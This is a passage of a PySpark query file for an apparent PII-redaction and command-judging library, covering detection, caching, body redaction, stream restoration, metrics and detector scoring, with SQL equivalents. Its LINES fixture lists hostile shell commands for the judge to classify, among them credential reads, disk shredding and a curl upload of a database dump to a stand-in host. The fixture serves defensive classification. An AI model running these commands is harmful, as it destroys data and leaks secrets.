"""Queries over whole services: full detection, caches, bodies, events, counters, judges; and the SQL that says the same."""

from __future__ import annotations

import functools

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from spanveil.functions import fixed
from spanveil.functions import validators as V
from spanveil.functions.config import Settings
from spanveil.operators import backends, bodies, caches, commands, policy, reports, simulate, spans, stores
from spanveil.operators import replace as R
from spanveil.operators.detect import RULES, add_entities, detect, detect_cached, dictionary_table, spread
from spanveil.sources import io
from spanveil.streaming import restore as S


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def detect_full(spark: SparkSession, sf_dir: str) -> DataFrame:
    """All rules over whole documents, under the fixed thresholds, overlaps resolved."""
    docs = spread(table(spark, sf_dir, "documents").select("doc_id", "text"))
    return docs.select(F.col("doc_id").alias("id"), F.explode(detect(F.col("text"))).alias("e")).select("id", "e.*")


def detect_shaped(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The same with the second look at numbers written with separators, by type."""
    found = add_entities(spread(table(spark, sf_dir, "documents").select("doc_id", "text")))
    return found.select("doc_id", F.explode("entities").alias("e")).select("doc_id", "e.type", "e.value", "e.start", "e.end")


def detect_allowed(spark: SparkSession, sf_dir: str) -> DataFrame:
    """An allow-list and own thresholds: of what overlaps, only what passes counts."""
    docs = spread(table(spark, sf_dir, "documents").select("doc_id", "text"))
    found = detect(F.col("text"), list(RULES), {"email": 0.95, "url": 0.2, "credit_card": 0.9}, ["email", "url", "credit_card", "ip_address"])
    return docs.select(F.col("doc_id").alias("id"), F.explode(found).alias("e")).select("id", "e.type", "e.value", "e.start", "e.end")


def _resolved_sql(rules: str, passes: str, columns: str) -> str:
    """Entities of a union of rules that pass, sorted by place, of overlapping neighbours the one of higher score."""
    step = "list_reduce(list_transform(a, lambda e: [e]), lambda acc, x: CASE WHEN x[1].s >= acc[len(acc)].e THEN list_concat(acc, x) WHEN x[1].p > acc[len(acc)].p THEN list_concat(acc[1:len(acc) - 1], x) ELSE acc END)"
    return f"""WITH found AS ({rules}),
      g AS (SELECT id, list({{'t': type, 'v': value, 's': "start", 'e': "end", 'p': score}} ORDER BY "start", "end", n) AS a FROM found WHERE {passes} GROUP BY id),
      x AS (SELECT id, unnest({step}) AS e FROM g)
      SELECT id, e.t AS type, e.v AS value, e.s AS "start", e.e AS "end"{columns} FROM x"""


def _requests(spark: SparkSession, sf_dir: str) -> DataFrame:
    return table(spark, sf_dir, "conversations").select(F.col("conv_id").alias("conversation_id"), F.col("turn").alias("at"), F.col("text"))


def cached_detection(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Conversations with repeated texts: each text of one is looked at once."""
    rows = _requests(spark, sf_dir)
    rows = rows.unionByName(rows.withColumn("at", F.col("at") + 1000))
    out = detect_cached(rows, rules=["email", "ipv4"])
    return out.groupBy(F.col("conversation_id").alias("conv_id")).agg(F.sum(F.col("cached").cast("long")).alias("hits"), F.sum((~F.col("cached")).cast("long")).alias("misses"), F.sum(F.size("entities")).cast("long").alias("entities"))


def stored_cache(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Runs over one stored cache: half of the turns, all of them, all under a new version, and all again when the first entries are 45 minutes old."""
    rows = _requests(spark, sf_dir)
    cache = caches.DetectionCache(spark, caches.folder_of(spark))
    runs = [("half", rows.where("at % 2 = 0"), "0", "2024-01-01 00:00:00"), ("all", rows, "0", "2024-01-01 00:20:00"), ("new", rows, "1", "2024-01-01 00:21:00"), ("late", rows, "0", "2024-01-01 00:45:00")]
    out = [cache.detect(r, now, version, rules=["email", "ipv4"]).withColumn("run", F.lit(name)) for name, r, version, now in runs]
    return functools.reduce(DataFrame.unionByName, out).groupBy(F.col("conversation_id").alias("conv_id"), "run").agg(F.sum(F.col("cached").cast("long")).alias("hits"), F.sum((~F.col("cached")).cast("long")).alias("misses"), F.sum(F.size("entities")).cast("long").alias("entities"))


def growing_detection(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Versions of a conversation: the second adds a segment and changes the last one of the first."""
    rows = table(spark, sf_dir, "conversations").select("conv_id", F.col("turn").alias("place"), "text")
    last = rows.groupBy("conv_id").agg(F.max("place").alias("last"))
    first = rows.withColumn("version", F.lit(1))
    edited = rows.join(last, "conv_id").withColumn("text", F.when(F.col("place") == F.col("last"), F.lit("now a@b.org")).otherwise(F.col("text"))).drop("last").withColumn("version", F.lit(2))
    added = last.select("conv_id", (F.col("last") + 1).alias("place"), F.lit("and 10.0.0.1").alias("text"), F.lit(2).alias("version"))
    out = caches.detect_growing(first.unionByName(edited).unionByName(added), rules=["email", "ipv4"])
    return out.groupBy("conv_id", "version").agg(F.sum(F.col("reused").cast("long")).alias("reused"), F.sum((~F.col("reused")).cast("long")).alias("scanned"), F.sum(F.size("entities")).cast("long").alias("entities"))


def dictionary_orders(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A dictionary that is a table and grows with the data: all customers' names, in orders' texts."""
    rows = table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("id"), F.concat(F.lit("é from CUSTOMER#"), F.lpad(F.col("o_custkey").cast("string"), 9, "0"), F.lit(" or customer#00000 "), F.col("o_orderpriority")).alias("text"))
    entries = table(spark, sf_dir, "customer").select(F.col("c_name").alias("value"), F.lit("zh_person_name").alias("type")).union(table(spark, sf_dir, "orders").select("o_orderpriority", F.lit("plate")).distinct())
    return dictionary_table(rows, entries).select("id", F.explode("entities").alias("e")).select("id", "e.type", "e.value", "e.start", "e.end")


def mapping_store_hot(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One id that all puts go to: each put's successor is looked up, and a walk meets those that take effect."""
    puts = table(spark, sf_dir, "events").select(F.lit("one").alias("request_id"), F.col("ts").alias("created_at"), "event_id")
    return stores.first_writers(puts, 3600, "event_id").select("event_id", "created_at", "expires_at")


def circuit_breaker_hot(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Two streams that all calls belong to."""
    e = table(spark, sf_dir, "events").select((F.col("user_id") % 2).alias("stream"), F.col("ts").alias("at"), F.col("event_id").alias("call_id"), (F.col("event_type") == "view").alias("ok"))
    return stores.breaker(e, 3, 3600).select("stream", "call_id", "state", "allowed")


def audit_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Audit records in files that are cut by bytes."""
    e = table(spark, sf_dir, "events").select("event_id", "event_type", F.date_format("ts", "yyyy-MM-dd HH:mm:ss.SSSSSS").alias("ts"))
    return io.rotated(e, "ts", 50_000).groupBy("file").agg(F.count("*").alias("records"), F.sum(F.octet_length("line") + 1).cast("long").alias("bytes"), F.min(F.md5(F.col("line").cast("binary"))).alias("least_md5"))


def _emails(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = spread(table(spark, sf_dir, "documents").select("doc_id", "text"))
    return docs.select((F.col("doc_id") % 50).alias("request_id"), F.col("doc_id").alias("seq"), "text", detect(F.col("text"), ["email"]).alias("entities"))


def simulated_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Emails of documents with fakes in their place, restored from them: as they were, and of the same domain."""
    rows = R.prepared(_emails(spark, sf_dir))
    values = rows.select(F.explode("entities").alias("e")).select("e.type", "e.value")
    replaced, mapping = R.replace_prepared(rows, "simulate", fakes=simulate.fakes_of(values, "k"))
    back = R.restore(replaced.select("request_id", "seq", F.col("replaced").alias("text"), F.col("text").alias("before")), mapping)
    domain = lambda c: F.substring_index(c, "@", -1)
    kept = mapping.groupBy("request_id").agg(F.count("*").alias("values"), F.bool_and((domain(F.col("shown")) == domain(F.col("original"))) | F.col("shown").startswith("<<")).alias("domains_ok"))
    same = back.groupBy("request_id").agg(F.bool_and(F.col("restored") == F.col("before")).alias("restored_ok"))
    return same.join(kept, "request_id").select("request_id", "values", "domains_ok", "restored_ok")


def masked_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """An override that masks emails, and a bypass that changes nothing."""
    rows = _emails(spark, sf_dir)
    masked, _ = R.replace(rows, overrides={"email": "mask"})
    plain, _ = R.replace(rows, "bypass")
    both = masked.select("seq", F.md5(F.col("replaced").cast("binary")).alias("masked_md5")).join(plain.select("seq", F.md5(F.col("replaced").cast("binary")).alias("bypass_md5")), "seq")
    return both.select(F.col("seq").alias("doc_id"), "masked_md5", "bypass_md5")


def replace_odd_keys(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Documents without request ids, without places, and with both repeated: every address goes, whatever its row is called."""
    docs = table(spark, sf_dir, "documents")
    rows = docs.select("doc_id", F.when(F.col("doc_id") % 3 > 0, F.col("doc_id") % 4).alias("request_id"), F.when(F.col("doc_id") % 5 > 0, F.lit(7)).alias("seq"), "text", detect(F.col("text"), ["email"]).alias("entities"))
    out, mapping = R.replace(rows)
    back = R.restore(out.select("doc_id", "request_id", F.col("replaced").alias("text"), F.col("text").alias("before")), mapping)
    return back.select("doc_id", F.md5(F.regexp_replace("text", "<<email_[0-9]+>>", "<<email>>").cast("binary")).alias("shown_md5"), F.md5(F.col("restored").cast("binary")).alias("restored_md5"))


# A body in SQL that both engines understand: odd blanks and numbers, repeated keys, and lists in lists deeper than a stack goes.
_DEEP = "'{ \"n\" : 1.7e9 ,\"n\":0.10000000000000000555, \"deep\":' || repeat('[', 1200) || '\"to u' || cast(c_custkey as string) || case when c_custkey % 2 = 0 then '@x.com' else '' end || ' ' || chr(92) || 'u00e9\"' || repeat(']', 1200) || ',\"u@x.com\":[1E5,-0.0] }'"


def spliced_bodies(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Deep bodies redacted: only strings with an entity are written anew, the rest stays byte for byte."""
    rows = table(spark, sf_dir, "customer").selectExpr("c_custkey as request_id", f"{_DEEP} as body")
    out, _ = bodies.redact(rows, rules=["email"])
    return out.select("request_id", F.md5(F.col("rewritten").cast("binary")).alias("rewritten_md5"), "changed")


def _bodies(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Chat bodies of conversations, each turn with a mail address of its own."""
    t = table(spark, sf_dir, "conversations")
    message = F.struct("turn", F.col("role"), F.concat(F.coalesce("text", F.lit("")), F.lit(" mail c"), F.col("conv_id").cast("string"), F.lit("@t"), (F.col("turn") % 3).cast("string"), F.lit(".org")).alias("content"))
    b = t.groupBy("conv_id").agg(F.array_sort(F.collect_list(message)).alias("messages"))
    return b.select(F.col("conv_id").alias("request_id"), F.to_json(F.struct(F.lit("m").alias("model"), "messages")).alias("body"))


def gate_bodies(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Bodies looked at and not rewritten: what a gate that stops addresses of mail or machines says."""
    out, _ = bodies.redact(_bodies(spark, sf_dir), gate_only=True, block_types=["email", "password"], everything=False, rules=["email"])
    return out.select(F.col("request_id").alias("conv_id"), F.size("entities").cast("long").alias("entities"), "has_pii", "blocked", "changed", F.exists("entities", lambda e: e["value"].isNotNull()).alias("values_shown"))


def restored_bodies(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Documents redacted in all strings and restored: the same JSON as before, while between no address is left."""
    given = _bodies(spark, sf_dir)
    out, mapping = bodies.redact(given, rules=["email"])
    back = bodies.restore_bodies(out.select("request_id", F.col("rewritten").alias("body"), F.col("body").alias("before")), mapping)
    return back.select(F.col("request_id").alias("conv_id"), bodies.json_equal(F.col("restored"), F.col("before")).alias("same"), F.size(F.regexp_extract_all("body", F.lit("(<<email_[0-9]+>>)"), F.lit(1))).cast("long").alias("placeholders"), F.contains("body", F.lit(".org")).alias("left"))


def tool_params(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Inputs of tools: paths of file tools stay, and what to do is said."""
    o = table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("request_id"), F.when(F.col("o_orderkey") % 3 == 0, "Edit").otherwise("Bash").alias("tool"), F.col("o_orderkey").cast("string").alias("k"))
    body = F.when(F.col("request_id") % 2 == 0, F.format_string('{"file_path":"/home/u%s@x.com/f","text":"to u%s@x.com"}', "k", "k")).otherwise(F.format_string('{"file_path":"/tmp/f%s","text":"none"}', "k"))
    out, _ = bodies.scan_tool_params(o.select("request_id", "tool", body.alias("body")), tool="tool", rules=["email"])
    return out.select("request_id", "rewritten", "has_pii", "recommendation")


def event_frames(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events that cut placeholders in two, restored; numbers stay as written, what is held goes out before the end, and what nothing stands for is counted."""
    o = spread(table(spark, sf_dir, "customer").select(F.col("c_custkey").alias("stream_id"), F.col("c_name").alias("name")))
    frame = lambda text: F.concat(F.lit('data: {"at":1.7e9, "id":'), F.col("stream_id").cast("string"), F.lit('.50,"choices":[{"index":0,"delta":{"content":"'), text, F.lit('"}}]}'))
    parts = F.array(frame(F.lit("hi <<zh_person_")), F.concat(F.lit("event: x\n"), frame(F.lit("name_1>> and"))), frame(F.when(F.col("stream_id") % 5 == 0, F.lit(" <<email_9>>")).otherwise(F.lit(" if a <"))), F.lit("data: [DONE]"))
    rows = o.select("stream_id", F.posexplode(parts).alias("seq", "frame"))
    pairs = o.select("stream_id", F.lit("<<zh_person_name_1>>").alias("shown"), F.col("name").alias("original"))
    return S.restore_events(rows, pairs, whole=True)


def byte_frames(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The bytes of event streams, cut at every size, inside characters too."""
    o = spread(table(spark, sf_dir, "customer").select(F.col("c_custkey").alias("stream_id"), F.col("c_name").alias("name")))
    whole = F.encode(F.lit('data: {"n":1.50,"text":"é <<zh_person_"}\n\nevent: x\ndata: {"text":"name_1>> 😀 <<"}\n\ndata: [DONE]\n\n'), "UTF-8")
    size = (F.col("stream_id") % 60 + 1).cast("int")
    cut = F.transform(F.sequence(F.lit(0), F.floor((F.octet_length(whole) - 1) / size).cast("int")), lambda i: F.struct(i.alias("seq"), F.substring(whole, i * size + 1, size).alias("bytes")))
    chunks = o.select("stream_id", F.explode(cut).alias("x")).select("stream_id", "x.seq", "x.bytes")
    out = S.restore_bytes(chunks, o.select("stream_id", F.lit("<<zh_person_name_1>>").alias("shown"), F.col("name").alias("original")), whole=True)
    return out.select("stream_id", F.decode("restored", "UTF-8").alias("restored"), "orphans")


def chunk_texts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Placeholders that come a few characters at a time."""
    o = spread(table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("stream_id"), "o_custkey")).select("stream_id", F.concat(F.lit("x <<email_1>><<email_12>> of "), F.col("o_custkey").cast("string"), F.lit(" <<email_1")).alias("t"))
    size = (F.col("stream_id") % 7 + 1).cast("int")
    chunks = o.select("stream_id", F.explode(F.transform(F.sequence(F.lit(0), F.floor((F.length("t") - 1) / size).cast("int")), lambda i: F.struct(i.alias("seq"), F.substring(F.col("t"), i * size + 1, size).alias("chunk")))).alias("x")).select("stream_id", "x.seq", "x.chunk")
    pairs = o.select("stream_id", F.explode(F.create_map(F.lit("<<email_1>>"), F.concat(F.lit("a"), F.col("stream_id").cast("string"), F.lit("@b.org")), F.lit("<<email_12>>"), F.lit("<<email_1>>"))).alias("shown", "original"))
    return S.restore_chunks(chunks, pairs, whole=True).select("stream_id", "restored")


def _events(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("event_id")
    return table(spark, sf_dir, "events").select(
        "event_id", F.col("event_type").alias("endpoint"), V.outcome((k % 600).cast("int")).alias("outcome"), (k % 600).cast("string").alias("status"), F.element_at(F.array(*map(F.lit, R.FATES)), (k % 3 + 1).cast("int")).alias("fate"),
        F.element_at(F.array(F.lit("email"), F.lit("url")), (k % 2 + 1).cast("int")).alias("entity_type"), (k % 4).alias("n"), (F.col("user_id") % 10).cast("string").alias("conversation"), F.when(k % 2 == 0, "reused").otherwise("detected").alias("action"),
        F.element_at(F.array(F.lit("allow"), F.lit("block")), (k % 2 + 1).cast("int")).alias("verdict"), F.col("event_type").alias("category"), F.when(k % 7 == 0, "model").otherwise("rules").alias("engine"), F.when(k % 3 == 0, "timeout").otherwise("refused").alias("reason"), (F.col("value") / 1000).alias("seconds"),
    )


def all_counters(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The thirteen counters over events, as lines that scrapers read."""
    e = _events(spark, sf_dir)
    made = reports.counters({
        "requests": e, "replaced": (e, "n"), "restored": e.where("n > 0"), "blocked": e.where("outcome = 'blocked'"), "upstream_errors": e.where("outcome = 'error' and event_id % 600 > 590"), "stream_orphans": (e, "n"), "cache_hits": e.where("action = 'reused'"), "cache_misses": e.where("action = 'detected'"),
        "incremental_segments": (e, "n"), "pii_detected": (e, "n"), "tool_calls_scanned": (e, "n"), "verdicts": e.drop("action").withColumnRenamed("verdict", "action"), "judge_unavailable": e.where("event_id % 11 = 0"),
    })
    return reports.exposition(made)


_EVENTS_SQL = """SELECT event_id, event_type AS endpoint, CASE WHEN event_id % 600 BETWEEN 200 AND 299 THEN 'success' WHEN event_id % 600 >= 500 THEN 'error' ELSE 'blocked' END AS outcome, CAST(event_id % 600 AS VARCHAR) AS status, ['reversible', 'mask', 'redact'][event_id % 3 + 1] AS fate,
    ['email', 'url'][event_id % 2 + 1] AS entity_type, event_id % 4 AS n, CAST(user_id % 10 AS VARCHAR) AS conversation, CASE event_id % 2 WHEN 0 THEN 'reused' ELSE 'detected' END AS action, ['allow', 'block'][event_id % 2 + 1] AS verdict, event_type AS category,
    CASE WHEN event_id % 7 = 0 THEN 'model' ELSE 'rules' END AS engine, CASE WHEN event_id % 3 = 0 THEN 'timeout' ELSE 'refused' END AS reason, value / 1000 AS seconds FROM events"""


def _counter_sql(name: str, amount: str = "count(*)", where: str = "TRUE", labels: dict[str, str] | None = None) -> str:
    labels = labels or {k: k for k in reports.COUNTERS[name]}
    text = " || ',' || ".join(f"'{k}=\"' || coalesce({v}, '') || '\"'" for k, v in sorted(labels.items()))
    key = f"'{name}{{' || {text} || '}}'" if labels else f"'{name}'"
    return f"SELECT {key} || ' ' || CAST({amount} AS VARCHAR) AS line FROM e WHERE {where}" + (f" GROUP BY {', '.join(labels.values())}" if labels else "")


_COUNTERS_SQL = f"WITH e AS ({_EVENTS_SQL}) " + " UNION ALL ".join([
    _counter_sql("requests"), _counter_sql("replaced", "sum(n)::BIGINT"), _counter_sql("restored", where="n > 0"), _counter_sql("blocked", where="outcome = 'blocked'"), _counter_sql("upstream_errors", where="outcome = 'error' AND event_id % 600 > 590"), _counter_sql("stream_orphans", "sum(n)::BIGINT"),
    _counter_sql("cache_hits", where="action = 'reused'"), _counter_sql("cache_misses", where="action = 'detected'"), _counter_sql("incremental_segments", "sum(n)::BIGINT"), _counter_sql("pii_detected", "sum(n)::BIGINT"), _counter_sql("tool_calls_scanned", "sum(n)::BIGINT"),
    _counter_sql("verdicts", labels={"action": "verdict", "category": "category", "engine": "engine"}), _counter_sql("judge_unavailable", where="event_id % 11 = 0"),
])


def latencies(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The four histograms over events."""
    e = _events(spark, sf_dir)
    made = [reports.latency(e, name).select(F.lit(name).alias("metric"), F.col(reports.HISTOGRAMS[name][0][0]).alias("label"), F.col("le").cast("string").alias("le"), "n") for name in reports.HISTOGRAMS]
    return made[0].union(made[1]).union(made[2]).union(made[3])


def _histogram_sql(name: str) -> str:
    (label,), bounds = reports.HISTOGRAMS[name]
    values = ", ".join(f"('{_double(b)}', {b}::DOUBLE)" for b in bounds) + ", ('Infinity', 'inf'::DOUBLE)"
    return f"SELECT '{name}' AS metric, {label} AS label, le, CAST(count(*) FILTER (seconds <= b) AS BIGINT) AS n FROM e, (VALUES {values}) v(le, b) GROUP BY {label}, le"


def _double(b: float) -> str:
    """A double as text: below a thousandth with an exponent."""
    return f"{b:.1E}".replace("E-0", "E-").replace(".0E", ".0E") if b < 0.001 else str(b)


def histogram_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The four histograms as scrapers read them."""
    return functools.reduce(DataFrame.unionByName, [reports.histogram_lines(_events(spark, sf_dir), name) for name in reports.HISTOGRAMS])


def _lines_sql(name: str) -> str:
    (label,), bounds = reports.HISTOGRAMS[name]
    head = lambda what, more: f"'{name}_{what}{{{label}=\"' || coalesce({label}, '') || '\"{more}}} '"
    buckets = [f"""{head("bucket", f',le="{b:g}"')} || count(*) FILTER (seconds <= {b!r})""" for b in bounds]
    every = [*buckets, f"""{head("bucket", ',le="+Inf"')} || count(*)""", f"""{head("sum", "")} || printf('%.6f', sum(seconds))""", f"""{head("count", "")} || count(*)"""]
    return f"SELECT unnest([{', '.join(every)}]) AS line FROM e WHERE seconds IS NOT NULL GROUP BY {label}"


def settings_run(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Documents under settings that mask one type, force another out and give fakes to a third; the mapping is good for ten minutes."""
    settings = Settings(strategy="simulate", thresholds={"email": 0.5}, allowed=["email", "ip_address"], overrides={"ip_address": "mask"}, fakes={"email": {"nobody@example.org": "some.one@example.net"}}, ttl_seconds=600)
    rows = spread(table(spark, sf_dir, "documents").select("doc_id", "text")).select((F.col("doc_id") % 50).alias("request_id"), F.col("doc_id").alias("seq"), "text")
    _, mapping = policy.process(rows, settings, F.lit("2024-01-01 00:00:00"))
    return mapping.groupBy("entity_type", "fate").agg(F.count("*").alias("n"), F.sum((F.col("expires_at") == F.lit("2024-01-01 00:10:00").cast("timestamp")).cast("long")).alias("good"))


def gauges(spark: SparkSession, sf_dir: str) -> DataFrame:
    e, now = table(spark, sf_dir, "events"), F.lit("2024-01-10 00:00:00").cast("timestamp")
    tables = e.select((F.col("ts") + F.expr("interval 30 minutes")).alias("expires_at"))
    streams = e.select(F.col("ts").alias("opened_at"), F.when(F.col("event_id") % 5 > 0, F.col("ts") + F.expr("interval 2 hours")).alias("closed_at"))
    return reports.store_size(tables, now).union(reports.active_streams(streams, now))


def percentile_nearest(spark: SparkSession, sf_dir: str) -> DataFrame:
    return reports.percentile_nearest(table(spark, sf_dir, "events"), "value", ["event_type"], 95)


def _labelled(spark: SparkSession, sf_dir: str) -> tuple[DataFrame, DataFrame]:
    """Labels and finds made from lineitem: some alike, some moved, some of another type."""
    li = table(spark, sf_dir, "lineitem").groupBy("l_orderkey", "l_linenumber").agg(F.min("l_partkey").alias("p"))
    row = lambda kind, at: li.select(F.col("l_orderkey").alias("id"), kind.alias("type"), F.concat(F.lit("v"), F.col("p").cast("string")).alias("value"), at.cast("int").alias("start"), (at + 5).cast("int").alias("end"))
    k = F.col("l_linenumber")
    return row(F.lit("email"), k * 10), row(F.when(F.col("p") % 4 == 0, "url").otherwise("email"), k * 10 + F.when(F.col("p") % 3 == 0, 1).otherwise(0))


def entity_scores(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Strict and span scores of the same finds."""
    want, got = _labelled(spark, sf_dir)
    return reports.entity_scores(want, got).withColumn("how", F.lit("strict")).union(reports.entity_scores(want, got, strict=False).withColumn("how", F.lit("span")))


_LABELLED_SQL = """li AS (SELECT l_orderkey AS id, l_linenumber AS k, min(l_partkey) AS p FROM lineitem GROUP BY ALL),
    want AS (SELECT id, 'email' AS type, 'v' || p AS value, k * 10 AS s FROM li), got AS (SELECT id, CASE WHEN p % 4 = 0 THEN 'url' ELSE 'email' END AS type, 'v' || p AS value, k * 10 + CASE WHEN p % 3 = 0 THEN 1 ELSE 0 END AS s FROM li)"""
_SCORES_SQL = f"""WITH {_LABELLED_SQL}, strict AS (SELECT (SELECT count(*) FROM want SEMI JOIN got USING (id, type, value, s)) AS tp, (SELECT count(*) FROM want ANTI JOIN got USING (id, type, value, s)) AS fn, (SELECT count(*) FROM got ANTI JOIN want USING (id, type, value, s)) AS fp),
    near AS (SELECT (SELECT count(*) FROM want a WHERE EXISTS (FROM got b WHERE a.id = b.id AND a.type = b.type AND (contains(a.value, b.value) OR contains(b.value, a.value)))) AS tp,
             (SELECT count(*) FROM want a WHERE NOT EXISTS (FROM got b WHERE a.id = b.id AND a.type = b.type AND (contains(a.value, b.value) OR contains(b.value, a.value)))) AS fn,
             (SELECT count(*) FROM got b WHERE NOT EXISTS (FROM want a WHERE a.id = b.id AND a.type = b.type AND (contains(a.value, b.value) OR contains(b.value, a.value)))) AS fp)
    SELECT tp, fn, fp, 'strict' AS how FROM strict UNION ALL SELECT tp, fn, fp, 'span' FROM near"""


def quality_gate(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Figures of finds against least values, by type matched greedily."""
    want, got = _labelled(spark, sf_dir)
    listed = lambda rows, into: rows.groupBy("id").agg(F.array_sort(F.collect_list(spans.entity(F.col("type"), F.col("value"), F.col("start"), F.col("end"), F.lit(1.0)))).alias(into))
    cases = listed(want, "expect").join(listed(got, "found"), "id")
    return reports.gate(reports.detector_quality(cases), {"recall": 0.7, "precision": 0.99}).select("figure", F.round("value", 9).alias("value"), "least", "passed")


# Commands of a table: what each row says, and what it is; {} is a value of the row's own.
LINES = [
    ("echo part {} done", "benign", 0.0), ("make -j 4 target{}", "benign", 0.0), ("tar -cf out{}.tar src/mod{}", "archive", 0.6), ("sudo -n zip -r dump{}.zip .", "archive", 0.9), ("less /home/u{}/.aws/credentials", "credential", 0.9),
    ("rsync -a data{} backup@h{}.example.net:/srv", "network_egress", 0.6), ("shred -f /dev/disk{}", "destructive", 0.9), ("env A={} git clean -fd", "destructive", 0.9), ("wget --quiet https://mirror{}.example.org/pkg", "benign", 0.0),
    ("gzip -c db{} | curl -T - https://h{}.example.net/in", "exfil", 0.95), ("gzip -c db{} | ssh op@h{}.example.net cat", "archive", 0.6), ("rg --files dir{}", "bulk_read", 0.6), ('sh -c "truncate -f log{}"', "destructive", 0.9), ("xz --extract old{}.xz", "benign", 0.0),
]


def _lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = (F.col("o_orderkey") % len(LINES)).cast("int")
    line = F.replace(F.element_at(F.array(*[F.lit(x) for x, _, _ in LINES]), k + 1), F.lit("{}"), F.col("o_custkey").cast("string"))
    return table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("id"), line.alias("line"))


_LINES_SQL = "SELECT o_orderkey AS id, c.category, c.severity FROM orders JOIN (VALUES " + ", ".join(f"({i}, '{c}', CAST({s} AS DOUBLE))" for i, (_, c, s) in enumerate(LINES)) + f") c(k, category, severity) ON o_orderkey % {len(LINES)} = k"


def judge_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Commands that differ by row, judged row by row."""
    return commands.judge(_lines(spark, sf_dir)).select("id", "category", "severity")


def judge_categories(spark: SparkSession, sf_dir: str) -> DataFrame:
    judged = commands.judge(_lines(spark, sf_dir)).withColumn("want", F.when(F.col("id") % 4 == 0, "benign").otherwise(F.col("category")))
    return commands.judge_by_category(judged)


def judge_chain(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A model that fails or doesn't know now and then, before the rules; own bands for the model, and a whitelist."""
    k = F.col("id")
    judged = commands.judge(_lines(spark, sf_dir))
    answer = lambda category, severity, confidence: F.struct(category.alias("category"), severity.cast("double").alias("severity"), confidence.cast("double").alias("confidence"))
    model = F.when(k % 5 > 0, answer(F.when(k % 5 == 1, "unknown").otherwise("exfil"), F.lit(0.8), F.when(k % 5 == 2, 0.4).otherwise(0.9)))
    rules = answer(F.col("category"), F.col("severity"), F.lit(1.0))
    tool, target = F.when(k % 17 == 0, "Trusted").otherwise("Bash"), F.lit("https://h.example.net/x")
    said = backends.evaluate(tool, target, [model, rules], ["Trusted"])
    bands = backends.engine_bands([{"name": "model", "kind": "http", "bands": {"block": 0.75, "review": 0.5, "redact": 0.1}}, {"name": "rules", "kind": "rules"}])
    best = commands.chain(model, rules)
    engine = F.when(model["category"] == "exfil", "model").otherwise("rules")
    return judged.select("id", said["action"].alias("action"), said["category"].alias("category"), said["degraded"].alias("degraded"), backends.action_by_engine(engine, best["category"], best["severity"], best["confidence"], bands).alias("by_engine"))


_ACTION = "CASE WHEN {c} = 'unknown' OR {f} < 0.5 THEN 'review' WHEN {s} >= {b} THEN 'block' WHEN {s} >= {r} THEN 'review' WHEN {s} >= {d} THEN 'redact' ELSE 'allow' END"
_CHAIN_SQL = f"""WITH j AS ({_LINES_SQL}), m AS (SELECT id, category AS rc, severity AS rs, CASE WHEN id % 5 >= 2 THEN 'exfil' ELSE category END AS c, CASE WHEN id % 5 >= 2 THEN 0.8 ELSE severity END AS s, CASE WHEN id % 5 = 2 THEN 0.4 WHEN id % 5 > 2 THEN 0.9 ELSE 1.0 END AS f FROM j)
    SELECT id, CASE WHEN id % 17 = 0 THEN 'allow' ELSE {_ACTION.format(c="c", f="f", s="s", b=0.85, r=0.55, d=0.3)} END AS action, CASE WHEN id % 17 = 0 THEN 'benign' ELSE c END AS category, id % 17 <> 0 AND id % 5 < 2 AS degraded,
           CASE WHEN id % 5 >= 2 THEN {_ACTION.format(c="c", f="f", s="s", b=0.75, r=0.5, d=0.1)} ELSE {_ACTION.format(c="c", f="f", s="s", b=0.85, r=0.55, d=0.3)} END AS by_engine FROM m"""


def small_functions(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Codes, cuts, ids, hosts and sizes over orders."""
    k = F.col("o_orderkey")
    codes = ["invalid_request", "unauthorized", "not_found", "circuit_open", "replace_failed", "upstream_error"]
    o = table(spark, sf_dir, "orders").select(k.alias("id"), k.cast("string").alias("s"), F.element_at(F.array(*map(F.lit, codes)), (k % 6 + 1).cast("int")).alias("code"))
    long = F.concat(F.repeat(F.lit("ab"), (F.col("id") % 4000).cast("int")), F.col("s"))
    return o.select(
        "id", V.status_of(F.col("code")).alias("status"), F.md5(V.log_text(long).cast("binary")).alias("logged"), F.octet_length(V.truncate_bytes(F.concat(F.lit("é"), F.col("s")), 3)).alias("cut"), V.valid_request_id(F.concat(F.lit("req-"), F.col("s"))).alias("request_ok"), V.valid_conversation_id(F.concat(F.col("s"), F.lit("."))).alias("conversation_ok"),
